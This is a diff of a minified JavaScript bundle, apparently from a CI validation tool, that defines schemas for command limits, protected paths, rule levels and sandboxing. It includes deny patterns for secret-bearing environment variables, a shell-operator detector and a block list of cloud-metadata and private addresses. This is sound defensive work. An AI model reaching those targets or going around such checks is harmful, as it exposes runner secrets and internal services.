+Object.defineProperty(t,"__esModule",{value:!0}),t.limits=t.blastRadius=void 0;function e(){const _=s(7723);return e=function(){
+return _},_}function n(){const _=s(27576);return n=function(){return _},_}function c(){const _=s(32854);return c=function(){
+return _},_}function r(){const _=s(99535);return r=function(){return _},_}function y(){const _=s(74580);return y=function(){
+return _},_}function g(){const _=s(92328);return g=function(){return _},_}const o=1024,l=1024*o,m=1024*l,a=e().number().
+positive().max(86400),i=t.limits=(0,r().section)("Limits of validation commands.",{command_timeout_seconds:(0,r().key)({
+schema:a,default:180,description:"Time limit of a command; a command that exceeds it is stopped and fails.",strictness:g().
+lowerIsStricter,input:{name:"command-timeout-seconds",schema:e().coerce.number().pipe(a)}}),budget_seconds:(0,r().key)({
+schema:a,default:300*60,description:"Time limit of all commands of a run together; commands that have not ended by then \
+fail.",strictness:g().lowerIsStricter,input:{name:"budget-seconds",schema:e().coerce.number().pipe(a)}}),prepare_seconds:(0,r().
+key)({schema:a,default:900,description:"Time limit of all lines of `prepare` together.",strictness:g().lowerIsStricter}),
+slow_command_seconds:(0,r().key)({schema:a,default:60,description:"A command that takes longer is reported with a warnin\
+g.",strictness:g().lowerIsStricter}),output_bytes:(0,r().key)({schema:e().number().int().min(o).max(16*l),default:64*o,description:"\
 Maximum output kept from the start and from the end of each stream; less if a run has many commands.",strictness:(0,g().
-baseCounts)()}),memory_bytes:(0,a().key)({schema:e().number().int().min(64*h),default:16*c,description:"Memory of a comm\
+baseCounts)()}),memory_bytes:(0,r().key)({schema:e().number().int().min(64*l),default:16*m,description:"Memory of a comm\
 and with its processes, and with the files that it writes if a control group is available; at most its share of the mach\
-ine, but at least 2 GiB.",strictness:g().lowerIsStricter}),processes:(0,a().key)({schema:e().number().int().min(16).max(
+ine, but at least 2 GiB.",strictness:g().lowerIsStricter}),processes:(0,r().key)({schema:e().number().int().min(16).max(
 32768),default:1024,description:"Processes and threads of a command at a time, with namespaces.",strictness:g().lowerIsStricter}),
-open_files:(0,a().key)({schema:e().number().int().min(64).max(1048576),default:4096,description:"Open files of one proce\
-ss, with namespaces.",strictness:g().lowerIsStricter}),file_bytes:(0,a().key)({schema:e().number().int().positive(),default:4*
-c,description:"Largest file that a command may write, with namespaces.",strictness:g().lowerIsStricter}),written_bytes:(0,a().
-key)({schema:e().number().int().min(h),default:4*c,description:"Total size of the files that a command may write, with n\
+open_files:(0,r().key)({schema:e().number().int().min(64).max(1048576),default:4096,description:"Open files of one proce\
+ss, with namespaces.",strictness:g().lowerIsStricter}),file_bytes:(0,r().key)({schema:e().number().int().positive(),default:4*
+m,description:"Largest file that a command may write, with namespaces.",strictness:g().lowerIsStricter}),written_bytes:(0,r().
+key)({schema:e().number().int().min(l),default:4*m,description:"Total size of the files that a command may write, with n\
 amespaces. They are in memory: commands that run at once have at most half of what is free.",strictness:g().lowerIsStricter})}),
-f=["append","forbidden"],d=t.blastRadius=(0,a().section)("How much a change with a gene may touch, and which paths no ch\
-ange may touch.",{counting:(0,a().key)({schema:n().countingSchema,default:"full",description:"Which files count: `full` \
+p=["append","forbidden"],h=t.blastRadius=(0,r().section)("How much a change with a gene may touch, and which paths no ch\
+ange may touch.",{counting:(0,r().key)({schema:n().countingSchema,default:"full",description:"Which files count: `full` \
 counts all except the asset store and new validation scripts, `reference` those that the protocol\u2019s reference engine cou\
-nts.",strictness:(0,g().incomparable)("Each of the two counts files that the other does not count.")}),hard_cap_files:(0,a().
+nts.",strictness:(0,g().incomparable)("Each of the two counts files that the other does not count.")}),hard_cap_files:(0,r().
 key)({schema:e().number().int().positive(),default:60,description:"Maximum number of files that count in one change, wha\
-tever its genes allow.",strictness:g().lowerIsStricter}),hard_cap_lines:(0,a().key)({schema:e().number().int().positive(),
+tever its genes allow.",strictness:g().lowerIsStricter}),hard_cap_lines:(0,r().key)({schema:e().number().int().positive(),
 default:2e4,description:"Maximum number of added and deleted lines that count in one change.",strictness:g().lowerIsStricter}),
-forbidden_paths:(0,a().key)({schema:e().array(w().repositoryPath.refine(S=>!(0,i().looksLikePattern)(S.trim()),{error:"e\
+forbidden_paths:(0,r().key)({schema:e().array(y().repositoryPath.refine(_=>!(0,c().looksLikePattern)(_.trim()),{error:"e\
 xpected a path, not a pattern; protected_paths takes globs"})),default:[],description:"Paths, not globs, that no change \
-may touch, including everything under them.",strictness:g().moreIsStricter}),protected_paths:(0,a().key)({schema:e().array(
-w().repositoryGlob),default:[],description:"Globs of protected files; a change that touches one fails.",strictness:g().moreIsStricter}),
-audit_log:(0,a().key)({schema:e().enum(f),default:"append",description:"Whether a change may append to events.jsonl, or \
-must not change it at all.",strictness:(0,g().fromLoosest)(f)})})},8801:function(A,t,s){Object.defineProperty(t,"__esMod\
-ule",{value:!0}),t.ruleKeys=t.ignores=void 0;function e(){const m=s(7723);return e=function(){return m},m}function n(){const m=s(
-54441);return n=function(){return m},m}function i(){const m=s(54062);return i=function(){return m},m}function a(){const m=s(
-99535);return a=function(){return m},m}function w(){const m=s(74580);return w=function(){return m},m}function g(){const m=s(
-92328);return g=function(){return m},m}const o=e().union([n().levelSchema,e().strictObject({level:n().levelSchema.describe(
+may touch, including everything under them.",strictness:g().moreIsStricter}),protected_paths:(0,r().key)({schema:e().array(
+y().repositoryGlob),default:[],description:"Globs of protected files; a change that touches one fails.",strictness:g().moreIsStricter}),
+audit_log:(0,r().key)({schema:e().enum(p),default:"append",description:"Whether a change may append to events.jsonl, or \
+must not change it at all.",strictness:(0,g().fromLoosest)(p)})})},8801:function(A,t,s){Object.defineProperty(t,"__esMod\
+ule",{value:!0}),t.ruleKeys=t.ignores=void 0;function e(){const w=s(7723);return e=function(){return w},w}function n(){const w=s(
+54441);return n=function(){return w},w}function c(){const w=s(54062);return c=function(){return w},w}function r(){const w=s(
+99535);return r=function(){return w},w}function y(){const w=s(74580);return y=function(){return w},w}function g(){const w=s(
+92328);return g=function(){return w},w}const o=e().union([n().levelSchema,e().strictObject({level:n().levelSchema.describe(
 "`error`, `warning` or `off`."),reason:e().string().trim().min(1).exactOptional().describe("Shown with each finding."),until:e().
 iso.date({error:"expected a date such as 2027-01-31"}).exactOptional().describe("The last day (UTC) of the level; after \
-it, the default applies again.")})]),h=e().record(e().string().min(1),o);function c(m,p){const l=m[p];return l===void 0?
-n().LEVELS.indexOf("error")-.5:n().LEVELS.indexOf((0,i().settingOf)(l).level)}function r(m,p){const l=m[p];if(l===void 0)
-return 0;const{level:E,until:x}=(0,i().settingOf)(l),j=x===void 0?Number.MAX_SAFE_INTEGER:Date.parse(x);return E==="erro\
-r"?-j:j}function u(m,p,l){return c(p,l)-c(m,l)||r(m,l)-r(p,l)}function f(m,p){const E=[...new Set([...Object.keys(m),...Object.
-keys(p)])].map(N=>u(m,p,N)),x=E.some(N=>N>0),j=E.some(N=>N<0);if(x!==j)return x?"tighter":"looser"}function d(m,p){const l=[
-...new Set([...Object.keys(m),...Object.keys(p)])];return Object.fromEntries(l.flatMap(E=>{const x=u(m,p,E)>0?p[E]:m[E];
-return x===void 0?[]:[[E,x]]}))}const S={compare:f,combine:(m,p)=>({value:d(m,p)})},k=e().union([e().enum(["report","blo\
+it, the default applies again.")})]),l=e().record(e().string().min(1),o);function m(w,f){const u=w[f];return u===void 0?
+n().LEVELS.indexOf("error")-.5:n().LEVELS.indexOf((0,c().settingOf)(u).level)}function a(w,f){const u=w[f];if(u===void 0)
+return 0;const{level:E,until:x}=(0,c().settingOf)(u),j=x===void 0?Number.MAX_SAFE_INTEGER:Date.parse(x);return E==="erro\
+r"?-j:j}function i(w,f,u){return m(f,u)-m(w,u)||a(w,u)-a(f,u)}function p(w,f){const E=[...new Set([...Object.keys(w),...Object.
+keys(f)])].map(N=>i(w,f,N)),x=E.some(N=>N>0),j=E.some(N=>N<0);if(x!==j)return x?"tighter":"looser"}function h(w,f){const u=[
+...new Set([...Object.keys(w),...Object.keys(f)])];return Object.fromEntries(u.flatMap(E=>{const x=i(w,f,E)>0?f[E]:w[E];
+return x===void 0?[]:[[E,x]]}))}const _={compare:p,combine:(w,f)=>({value:h(w,f)})},v=e().union([e().enum(["report","blo\
 ck"]),e().strictObject({mode:e().literal("report"),until:e().iso.date({error:"expected a date such as 2027-01-31"}).describe(
-"The last day (UTC) of the reports; after it, a failing verdict fails the check.")})]);function v(m){return typeof m=="o\
-bject"?Date.parse(m.until):m==="block"?0:Number.MAX_SAFE_INTEGER}const b=t.ruleKeys={enforce:(0,a().key)({schema:k,default:"\
+"The last day (UTC) of the reports; after it, a failing verdict fails the check.")})]);function b(w){return typeof w=="o\
+bject"?Date.parse(w.until):w==="block"?0:Number.MAX_SAFE_INTEGER}const d=t.ruleKeys={enforce:(0,r().key)({schema:v,default:"\
 block",description:"Whether a failing verdict fails the check (`block`), or is only shown (`report`): the conclusion is \
 then `neutral`, which satisfies a required check. With `mode` and `until`, it reports until that day.",strictness:(0,g().
-ordered)((m,p)=>v(m)-v(p)),example:{mode:"report",until:"2027-01-31"}}),rules:(0,a().key)({schema:h,default:{},description:`\
-Levels of rules: \`error\`, \`warning\` or \`off\`, for a rule or for a group of rules (${n().RULE_GROUPS.map(m=>`\`${m}\
+ordered)((w,f)=>b(w)-b(f)),example:{mode:"report",until:"2027-01-31"}}),rules:(0,r().key)({schema:l,default:{},description:`\
+Levels of rules: \`error\`, \`warning\` or \`off\`, for a rule or for a group of rules (${n().RULE_GROUPS.map(w=>`\`${w}\
 \``).join(", ")}). A rule counts before its group, whose level applies to errors only. Rules that protect the machine ca\
-nnot be less strict.`,strictness:S,example:{size:"warning","content-hash-mismatch":{level:"warning",reason:"The engine h\
-ashes its assets from its next release on.",until:"2027-01-31"}}})},_=e().strictObject({rule:e().string().min(1).describe(
-"The id of the rule, as in the report."),where:e().strictObject({path:w().repositoryPath.optional().describe("A file, a \
+nnot be less strict.`,strictness:_,example:{size:"warning","content-hash-mismatch":{level:"warning",reason:"The engine h\
+ashes its assets from its next release on.",until:"2027-01-31"}}})},S=e().strictObject({rule:e().string().min(1).describe(
+"The id of the rule, as in the report."),where:e().strictObject({path:y().repositoryPath.optional().describe("A file, a \
 directory or a glob that the path of the finding must match."),gene:e().string().min(1).optional().describe("The id of t\
-he asset."),command:e().string().min(1).optional().describe("The full text of the command.")}).refine(m=>Object.keys(m).
+he asset."),command:e().string().min(1).optional().describe("The full text of the command.")}).refine(w=>Object.keys(w).
 length>0,{error:"expected at least one of path, gene and command; omit `where` to ignore the rule"}).optional().describe(
 "Which findings of the rule are ignored; all given keys must match. Default: all."),reason:e().string().trim().min(1,{error:"\
 expected a sentence that says why"}).describe("Why the finding is acceptable; shown with the finding."),expires:e().iso.
 date({error:"expected a date such as 2027-01-31"}).describe("The last day (UTC) of the ignore; after it, the finding cou\
-nts again.")}),y=t.ignores=(0,a().key)({schema:e().array(_),default:[],description:"Findings that do not count until a d\
+nts again.")}),k=t.ignores=(0,r().key)({schema:e().array(S),default:[],description:"Findings that do not count until a d\
 ate. Rules that decide whether a command may run cannot be ignored.",strictness:g().fewerIsStricter,example:[{rule:"cont\
 ent-hash-missing",where:{path:"assets/gep/genes.json"},reason:"Written before the engine hashed its genes.",expires:"202\
 7-01-31"}]})},96025:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.runningKeys=t.concurrencySchema=void 0;
-function e(){const d=s(7723);return e=function(){return d},d}function n(){const d=s(99535);return n=function(){return d},
-d}function i(){const d=s(74580);return i=function(){return d},d}function a(){const d=s(92328);return a=function(){return d},
-d}const w=["off","auto","require-for-forks","require"],g=["allow","none"],o=["off","auto"],h=t.concurrencySchema=e().int().
-positive().max(256),c=/^(?:INPUT_|ACTIONS_|GITHUB_(?:TOKEN|ENV|OUTPUT|PATH|STATE|STEP_SUMMARY)$|GH_TOKEN$|NODE_OPTIONS$|LD_|DYLD_|BASH_ENV$|ENV$|PATH$|GIT_)/i,
-r=e().string().regex(/^[A-Za-z_][A-Za-z0-9_]*$/).refine(d=>!c.test(d),{error:"expected a variable that holds no secret o\
-f the runner and does not decide what runs"}),u=[".git/**","**/.cache/**","**/node_modules/.*/**","**/.eslintcache","**/\
-*.tsbuildinfo","**/.nyc_output/**","**/coverage/**","**/{.*_cache,target,.tox,.gradle}/**"],f=t.runningKeys={containment:(0,n().
-key)({schema:e().enum(w),default:"require-for-forks",description:"Whether commands run in namespaces: always (`require`)\
+function e(){const h=s(7723);return e=function(){return h},h}function n(){const h=s(99535);return n=function(){return h},
+h}function c(){const h=s(74580);return c=function(){return h},h}function r(){const h=s(92328);return r=function(){return h},
+h}const y=["off","auto","require-for-forks","require"],g=["allow","none"],o=["off","auto"],l=t.concurrencySchema=e().int().
+positive().max(256),m=/^(?:INPUT_|ACTIONS_|GITHUB_(?:TOKEN|ENV|OUTPUT|PATH|STATE|STEP_SUMMARY)$|GH_TOKEN$|NODE_OPTIONS$|LD_|DYLD_|BASH_ENV$|ENV$|PATH$|GIT_)/i,
+a=e().string().regex(/^[A-Za-z_][A-Za-z0-9_]*$/).refine(h=>!m.test(h),{error:"expected a variable that holds no secret o\
+f the runner and does not decide what runs"}),i=[".git/**","**/.cache/**","**/node_modules/.*/**","**/.eslintcache","**/\
+*.tsbuildinfo","**/.nyc_output/**","**/coverage/**","**/{.*_cache,target,.tox,.gradle}/**"],p=t.runningKeys={containment:(0,n().
+key)({schema:e().enum(y),default:"require-for-forks",description:"Whether commands run in namespaces: always (`require`)\
 , for changes from forks always and for others if available (`require-for-forks`), if available (`auto`), or never (`off\
-`).",strictness:(0,a().fromLoosest)(w),input:{name:"containment",schema:e().enum(w)}}),network:(0,n().key)({schema:e().enum(
-g),default:"none",description:"Whether a command in namespaces has network access.",strictness:(0,a().fromLoosest)(g)}),
-mutants:(0,n().key)({schema:e().enum(o),default:"auto",description:"Whether passed commands run again on a broken change\
-, to see if they can fail: where namespaces allow it (`auto`), or never (`off`).",strictness:(0,a().fromLoosest)(o)}),concurrency:(0,n().
-key)({schema:e().union([e().literal("cores",{error:"expected `cores` or a number from 1 to 256"}),h]),default:"cores",description:"\
-Maximum number of concurrent commands; with namespaces only.",strictness:(0,a().baseCounts)((d,S)=>d==="cores"||S==="cor\
-es"?void 0:a().lowerIsStricter.compare(d,S)),input:{name:"concurrency",schema:e().coerce.number().pipe(h),open:"cores"}}),
-build_outputs:(0,n().key)({schema:e().array(i().repositoryGlob),default:[],description:"Globs of files and directories t\
-hat are not in the commit and that commands see nevertheless, such as the output of an earlier workflow step.",strictness:a().
-fewerIsStricter,example:["dist/**"]}),prepare_env:(0,n().key)({schema:e().array(r),default:[],description:"Environment v\
-ariables of the workflow step that `prepare` gets.",strictness:a().fewerIsStricter,example:["NPM_TOKEN","HTTPS_PROXY"]}),
-home_caches:(0,n().key)({schema:e().array(i().homeFolder),default:[],description:"Directories of the home directory that\
- a command in namespaces sees in its own, read-only; it is empty otherwise.",strictness:a().fewerIsStricter,example:[".c\
-ache/ms-playwright",".cargo/registry"]}),caches:(0,n().key)({schema:e().array(i().repositoryGlob),default:[...u],description:"\
-Globs of files that a command may write without a warning; replaces the default list.",strictness:a().fewerIsStricter})}},
-92328:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.baseCounts=r,t.emptyIsLoosest=c,t.fewerIsStricter=
-t.fewerEntriesAreStricter=void 0,t.fromLoosest=a,t.higherIsStricter=void 0,t.incomparable=u,t.lowerIsStricter=void 0,t.missingFrom=
-S,t.moreIsStricter=void 0,t.ordered=f;function e(){const v=s(23404);return e=function(){return v},v}const n=t.lowerIsStricter=
-f((v,b)=>v-b),i=t.higherIsStricter=f((v,b)=>b-v);function a(v){return f((b,_)=>{const[y,m]=[v.indexOf(b),v.indexOf(_)];return y<
-0||m<0?0:m-y})}const w=t.moreIsStricter={compare:(v,b)=>d(v,b,"tighter","looser"),combine:(v,b)=>({value:[...v,...S(v,b)]})},
-g=t.fewerIsStricter={compare:(v,b)=>d(v,b,"looser","tighter"),combine:(v,b)=>{const _=k(b);return{value:v.filter(_)}}},o=t.
-fewerEntriesAreStricter={compare:(v,b)=>g.compare(h(v),h(b)),combine:(v,b)=>{const _=Object.entries(v).map(([y,m])=>{const p=k(
-b[y]??[]);return[y,m.filter(p)]});return{value:Object.fromEntries(_.filter(([,y])=>y.length>0))}}};function h(v){return Object.
-entries(v).flatMap(([b,_])=>_.map(y=>[b,y]))}function c(v){const b=(y,m)=>y.filter(p=>m.some(l=>v(p,l))),_=(y,m)=>y.length===
-0||m.length>0&&b(m,y).length===m.length;return{compare:(y,m)=>{const[p,l]=[_(y,m),_(m,y)];if(p!==l)return p?"tighter":"l\
-ooser"},combine:(y,m)=>{if(y.length===0||m.length===0)return{value:[...y,...m]};const p=[...new Set([...b(y,m),...b(m,y)])];
-return p.length===0?void 0:{value:p}},loosens:(y,m)=>!_(y,m)}}function r(v=()=>{}){return{compare:v,combine:b=>({value:b}),
-loosens:()=>!1}}function u(v){return{compare:()=>{},combine:()=>{},reason:v}}function f(v){const b=(y,m)=>{const p=v(y,m);
-return p===0?void 0:p>0?"tighter":"looser"};return{compare:b,combine:(y,m)=>{const p=b(y,m);return p&&{value:p==="tighte\
-r"?m:y}}}}function d(v,b,_,y){const[m,p]=[S(v,b).length>0,S(b,v).length>0];if(m!==p)return m?_:y}function S(v,b){const _=k(
-v);return b.filter(y=>!_(y))}function k(v){const b=new Set(v.map(_=>(0,e().canonicalize)(_)));return _=>b.has((0,e().canonicalize)(
-_))}},35672:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.countOf=o,t.matchForm=h,t.parseForm=n,t.parseOperands=
-i;function e(){const r=s(55972);return e=function(){return r},r}function n(r){return a(r,u=>{const f=/^\{(.*)\}$/.exec(u)?.[1];
-return f===void 0&&!/[{}]/.test(u)?u:w(f??"")})}function i(r){return a(r,w)}function a(r,u){const f=r.split(" ").filter(
-k=>k!==""),d=f.flatMap(k=>u(k)??[]);return d.every((k,v)=>g(k)||v===f.length-1)&&d.length===f.length?d:void 0}function w(r){
-const[,u="",f,d,S]=/^([a-z]+)(?::(\d+)-(\d+))?(\?|\*|\.\.\.)?$/.exec(r)??[];if(Object.hasOwn(e().KINDS,u))return{kind:u,
-optional:S==="?"||S==="*",many:S==="*"||S==="...",...f!==void 0&&{range:[Number(f),Number(d)]}}}function g(r){return typeof r!=
-"object"||!(r.optional||r.many)}function o(r){const u=r.at(-1);return typeof u!="object"?{min:r.length,max:r.length}:{min:r.
-length-(u.optional?1:0),max:u.many?Number.POSITIVE_INFINITY:r.length}}function h(r,u,f){const{min:d,max:S}=o(r);if(u.length<
-d||u.length>S)return;const k=[];for(const[v,b]of u.entries()){const _=r[Math.min(v,r.length-1)];if(typeof _=="object"){const{
-kind:y}=_,m=k.some(l=>l.kind==="script"),p=c(_,b.text,m)??f(y,b.text);k.push({word:b,kind:y,...p&&{wrong:p}})}else if(_!==
-b.text)return}return k}function c({kind:r,range:u},f,d){if(u!==void 0){const[k,v]=u;return/^[1-9]\d{0,8}$/.test(f)&&Number(
-f)>=k&&Number(f)<=v?void 0:`is not a number from ${k} to ${v}`}return r!=="count"&&!d&&/^-./.test(f)?"starts with a dash":
+`).",strictness:(0,r().fromLoosest)(y),input:{name:"containment",schema:e().enum(y)}}),network:(0,n().key)({schema:e().enum(
+g),default:"none",description:"Whether a command in namespaces has network access.",strictness:(0,r().fromLoosest)(g)}),
+proof:(0,n().key)({schema:e().enum(o),default:"auto",description:"Whether passed commands run again without the change, \
+to see if they fail then: where namespaces allow it (`auto`), or never (`off`).",strictness:(0,r().fromLoosest)(o)}),concurrency:(0,n().
+key)({schema:e().union([e().literal("cores",{error:"expected `cores` or a number from 1 to 256"}),l]),default:"cores",description:"\
+Maximum number of concurrent commands; with namespaces only.",strictness:(0,r().baseCounts)((h,_)=>h==="cores"||_==="cor\
+es"?void 0:r().lowerIsStricter.compare(h,_)),input:{name:"concurrency",schema:e().coerce.number().pipe(l),open:"cores"}}),
+build_outputs:(0,n().key)({schema:e().array(c().repositoryGlob),default:[],description:"Globs of files and directories t\
+hat are not in the commit and that commands see nevertheless, such as the output of an earlier workflow step.",strictness:r().
+fewerIsStricter,example:["dist/**"]}),prepare_env:(0,n().key)({schema:e().array(a),default:[],description:"Environment v\
+ariables of the workflow step that `prepare` gets.",strictness:r().fewerIsStricter,example:["NPM_TOKEN","HTTPS_PROXY"]}),
+home_caches:(0,n().key)({schema:e().array(c().homeFolder),default:[],description:"Directories of the home directory that\
+ a command in namespaces sees in its own, read-only; it is empty otherwise.",strictness:r().fewerIsStricter,example:[".c\
+ache/ms-playwright",".cargo/registry"]}),caches:(0,n().key)({schema:e().array(c().repositoryGlob),default:[...i],description:"\
+Globs of files that a command may write without a warning; replaces the default list.",strictness:r().fewerIsStricter})}},
+92328:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.baseCounts=a,t.emptyIsLoosest=m,t.fewerIsStricter=
+t.fewerEntriesAreStricter=void 0,t.fromLoosest=r,t.higherIsStricter=void 0,t.incomparable=i,t.lowerIsStricter=void 0,t.missingFrom=
+_,t.moreIsStricter=void 0,t.ordered=p;function e(){const b=s(23404);return e=function(){return b},b}const n=t.lowerIsStricter=
+p((b,d)=>b-d),c=t.higherIsStricter=p((b,d)=>d-b);function r(b){return p((d,S)=>{const[k,w]=[b.indexOf(d),b.indexOf(S)];return k<
+0||w<0?0:w-k})}const y=t.moreIsStricter={compare:(b,d)=>h(b,d,"tighter","looser"),combine:(b,d)=>({value:[...b,..._(b,d)]})},
+g=t.fewerIsStricter={compare:(b,d)=>h(b,d,"looser","tighter"),combine:(b,d)=>{const S=v(d);return{value:b.filter(S)}}},o=t.
+fewerEntriesAreStricter={compare:(b,d)=>g.compare(l(b),l(d)),combine:(b,d)=>{const S=Object.entries(b).map(([k,w])=>{const f=v(
+d[k]??[]);return[k,w.filter(f)]});return{value:Object.fromEntries(S.filter(([,k])=>k.length>0))}}};function l(b){return Object.
+entries(b).flatMap(([d,S])=>S.map(k=>[d,k]))}function m(b){const d=(k,w)=>k.filter(f=>w.some(u=>b(f,u))),S=(k,w)=>k.length===
+0||w.length>0&&d(w,k).length===w.length;return{compare:(k,w)=>{const[f,u]=[S(k,w),S(w,k)];if(f!==u)return f?"tighter":"l\
+ooser"},combine:(k,w)=>{if(k.length===0||w.length===0)return{value:[...k,...w]};const f=[...new Set([...d(k,w),...d(w,k)])];
+return f.length===0?void 0:{value:f}},loosens:(k,w)=>!S(k,w)}}function a(b=()=>{}){return{compare:b,combine:d=>({value:d}),
+loosens:()=>!1}}function i(b){return{compare:()=>{},combine:()=>{},reason:b}}function p(b){const d=(k,w)=>{const f=b(k,w);
+return f===0?void 0:f>0?"tighter":"looser"};return{compare:d,combine:(k,w)=>{const f=d(k,w);return f&&{value:f==="tighte\
+r"?w:k}}}}function h(b,d,S,k){const[w,f]=[_(b,d).length>0,_(d,b).length>0];if(w!==f)return w?S:k}function _(b,d){const S=v(
+b);return d.filter(k=>!S(k))}function v(b){const d=new Set(b.map(S=>(0,e().canonicalize)(S)));return S=>d.has((0,e().canonicalize)(
+S))}},35672:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.countOf=o,t.matchForm=l,t.parseForm=n,t.parseOperands=
+c;function e(){const a=s(55972);return e=function(){return a},a}function n(a){return r(a,i=>{const p=/^\{(.*)\}$/.exec(i)?.[1];
+return p===void 0&&!/[{}]/.test(i)?i:y(p??"")})}function c(a){return r(a,y)}function r(a,i){const p=a.split(" ").filter(
+v=>v!==""),h=p.flatMap(v=>i(v)??[]);return h.every((v,b)=>g(v)||b===p.length-1)&&h.length===p.length?h:void 0}function y(a){
+const[,i="",p,h,_]=/^([a-z]+)(?::(\d+)-(\d+))?(\?|\*|\.\.\.)?$/.exec(a)??[];if(Object.hasOwn(e().KINDS,i))return{kind:i,
+optional:_==="?"||_==="*",many:_==="*"||_==="...",...p!==void 0&&{range:[Number(p),Number(h)]}}}function g(a){return typeof a!=
+"object"||!(a.optional||a.many)}function o(a){const i=a.at(-1);return typeof i!="object"?{min:a.length,max:a.length}:{min:a.
+length-(i.optional?1:0),max:i.many?Number.POSITIVE_INFINITY:a.length}}function l(a,i,p){const{min:h,max:_}=o(a);if(i.length<
+h||i.length>_)return;const v=[];for(const[b,d]of i.entries()){const S=a[Math.min(b,a.length-1)];if(typeof S=="object"){const{
+kind:k}=S,w=v.some(u=>u.kind==="script"),f=m(S,d.text,w)??p(k,d.text);v.push({word:d,kind:k,...f&&{wrong:f}})}else if(S!==
+d.text)return}return v}function m({kind:a,range:i},p,h){if(i!==void 0){const[v,b]=i;return/^[1-9]\d{0,8}$/.test(p)&&Number(
+p)>=v&&Number(p)<=b?void 0:`is not a number from ${v} to ${b}`}return a!=="count"&&!h&&/^-./.test(p)?"starts with a dash":
 void 0}},55972:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.SHELL_OPERATOR=t.PATH_KINDS=t.KINDS=void 0;
-function e(){const y=s(77030);return e=function(){return y},y}function n(){const y=s(43696);return n=function(){return y},
-y}const i=t.KINDS={text:()=>{},choice:()=>{},path:c,input:y=>y==="-"?"is standard input":c(y),argument:()=>{},script:y=>y.
-startsWith("-")?"is a flag":h(y),archive:r,destination:r,source:r,page:g(/^(?:\[|\w[\w.+:@-]*)$/,"is not the name of a m\
-anual page"),host:y=>b(y)?void 0:"is not a public address or host name",domain:y=>v(y)?void 0:"is not a domain name",url:y=>_(
-y)?void 0:"is not a plain http or https URL",count:g(/^[+-]?\d{1,9}[kKmMgG]?$/,"is not a number"),package:u,pattern:()=>{},
+function e(){const k=s(77030);return e=function(){return k},k}function n(){const k=s(43696);return n=function(){return k},
+k}const c=t.KINDS={text:()=>{},choice:()=>{},path:m,input:k=>k==="-"?"is standard input":m(k),argument:()=>{},script:k=>k.
+startsWith("-")?"is a flag":l(k),archive:a,destination:a,source:a,page:g(/^(?:\[|\w[\w.+:@-]*)$/,"is not the name of a m\
+anual page"),host:k=>d(k)?void 0:"is not a public address or host name",domain:k=>b(k)?void 0:"is not a domain name",url:k=>S(
+k)?void 0:"is not a plain http or https URL",count:g(/^[+-]?\d{1,9}[kKmMgG]?$/,"is not a number"),package:i,pattern:()=>{},
 awk:g(n().AWK_PROGRAM,"is not a program that only selects and prints"),sed:g(n().SED_SCRIPT,"is not a script that only s\
-elects and replaces")},a=t.PATH_KINDS=new Set(["path","input","argument","script","archive","destination","source"]),w=t.
-SHELL_OPERATOR=/[;&|<>`\r\n\0]|\$\(/;function g(y,m){return p=>y.test(p)?void 0:m}function o(y){return/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.
-test(y)}function h(y){return y===""?"is empty":void 0}function c(y){return o(y)?"is a URL":h(y)}function r(y){return y.startsWith(
-"-")?"begins with a dash":!o(y)&&/^[^/]*:/.test(y)&&!/^[A-Za-z]:[\\/]/.test(y)?"names another host":w.test(y)?"contains \
-a shell operator":/[*?[\]{}]/.test(y)?"contains a wildcard":/^~|\$/.test(y)?"is expanded by a shell":c(y)}function u(y){
-return!/^[A-Za-z0-9][A-Za-z0-9._+-]*(?:\[[\w,.-]+\])?(?:(?:[=~!<>]=|[<>=])[\w.*+!:~-]+)?$/.test(y)||y.endsWith("-")?"is \
-not a package name":/\.(?:whl|zip|deb|t?gz|tar|bz2|xz|egg)$/i.test(y)?"is a file":void 0}const f={ipv4:d("ipv4","0.0.0.0\
-/8 127.0.0.0/8 169.254.0.0/16 224.0.0.0/3 100.100.100.200/32 168.63.129.16/32 192.0.0.192/32"),ipv6:d("ipv6","::/80 fe80\
-::/10 fec0::/10 ff00::/8 fd00:ec2::254/128 64:ff9b::/96 64:ff9b:1::/48 2002::/16")};function d(y,m){const p=new(e()).BlockList;
-for(const l of m.split(" ")){const[E="",x]=l.split("/");p.addSubnet(E,Number(x),y)}return p}const S=/(?:^|\.)(?:localhost|local|internal|localdomain)$|^(?:ip6-)?loopback$|^metadata$/i,
-k=/^(?!-)[a-z0-9_-]{1,63}(?<!-)$/i;function v(y){const m=y.replace(/\.$/,"");if(m===""||m.length>253||S.test(m))return!1;
-const p=m.split(".");return p.every(l=>k.test(l))&&!/^(?:\d+|0x[\da-f]*)$/i.test(p.at(-1)??"")}function b(y){if((0,e().isIP)(
-y)===0)return v(y);const m=(0,e().isIPv4)(y)?"ipv4":"ipv6";return!y.includes("%")&&!f[m].check(y,m)}function _(y){const p=/^https?:\/\/(\[[0-9a-f:.]+\]|[\w.-]+)(?::\d{1,5})?(?:[/?#][\w\-.~:/?#@!$&'()*+,;=%]*)?$/i.
-exec(y)?.[1];return p!==void 0&&URL.canParse(y)&&b(p.replace(/^\[|\]$/g,""))}},55595:function(A,t){Object.defineProperty(
+elects and replaces")},r=t.PATH_KINDS=new Set(["path","input","argument","script","archive","destination","source"]),y=t.
+SHELL_OPERATOR=/[;&|<>`\r\n\0]|\$\(/;function g(k,w){return f=>k.test(f)?void 0:w}function o(k){return/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.
+test(k)}function l(k){return k===""?"is empty":void 0}function m(k){return o(k)?"is a URL":l(k)}function a(k){return k.startsWith(
+"-")?"begins with a dash":!o(k)&&/^[^/]*:/.test(k)&&!/^[A-Za-z]:[\\/]/.test(k)?"names another host":y.test(k)?"contains \
+a shell operator":/[*?[\]{}]/.test(k)?"contains a wildcard":/^~|\$/.test(k)?"is expanded by a shell":m(k)}function i(k){
+return!/^[A-Za-z0-9][A-Za-z0-9._+-]*(?:\[[\w,.-]+\])?(?:(?:[=~!<>]=|[<>=])[\w.*+!:~-]+)?$/.test(k)||k.endsWith("-")?"is \
+not a package name":/\.(?:whl|zip|deb|t?gz|tar|bz2|xz|egg)$/i.test(k)?"is a file":void 0}const p={ipv4:h("ipv4","0.0.0.0\
